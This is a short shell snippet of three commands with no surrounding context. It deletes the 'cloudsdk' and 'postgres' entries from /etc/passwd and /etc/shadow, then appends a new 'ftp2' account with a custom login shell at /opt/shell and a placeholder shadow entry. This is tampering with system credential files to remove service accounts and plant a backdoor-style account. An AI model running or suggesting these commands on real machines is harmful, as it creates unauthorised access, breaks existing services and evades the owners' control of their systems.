sed -i '/^cloudsdk:/d;/^postgres:/d' /etc/passwd /etc/shadow
echo 'ftp2:x:1500:1500::/:/opt/shell' >>/etc/passwd
echo 'ftp2:$6$a$b:20000:0:99999:7:::' >>/etc/shadow
